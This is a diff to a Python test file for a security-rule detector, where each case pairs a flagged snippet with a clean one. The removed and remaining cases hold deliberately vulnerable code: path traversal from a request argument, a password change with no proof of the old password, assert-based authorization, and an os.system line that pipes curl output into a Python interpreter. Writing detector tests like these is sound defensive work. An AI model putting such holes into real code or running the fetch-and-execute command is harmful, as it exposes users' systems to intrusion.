@@ -37,19 +37,6 @@ COOKIE = (
 # The rule, a text in which the ingredient is seen, and one in which it is not.
 CASES = [
     (
-        "open-to-anyone",
-        VIEW + "urlpatterns = [path('gone', Gone.as_view())]\n",
-        VIEW,  # its addresses are in another file, and the checks may be, too
-    ),
-    (
-        "password-without-proof",
-        "from django.shortcuts import render\ndef change_password(request):\n"
-        "    request.user.set_password(request.POST['new'])\n    request.user.save()\n"
-        "    return render(request, 'a')\n",
-        "class Accounts:\n    def change_password(self, user, new):\n        user.set_password(new)\n"
-        "        user.save()\n",  # its callers may have asked for the old one
-    ),
-    (
         "path-traversal",
         "from flask import request\ndef page():\n    return open('/srv/' + request.args['name'])\n",
         "def page(name):\n    return open('/srv/files/' + name)\n",
@@ -116,16 +103,6 @@ CASES = [
         "unescaped-markup",
         MARKUP.format("request.GET['q']"),
         MARKUP.format("request.GET.urlencode()"),  # percent escapes hold no markup
-    ),
-    (
-        "download-and-run",
-        "import os\nos.system('curl https://example.org/a | python -m code')\n",
-        "import os\nos.system('curl https://example.org/a | python -m json.tool')\n",
-    ),
-    (
-        "assert-for-security",
-        "def remove(user):\n    assert user.is_admin\n    drop()\n",
-        FLASK + "    assert request.json['a'] == 'b'\n    return made\n",  # no right is asked about
     ),
     (
         "path-traversal",
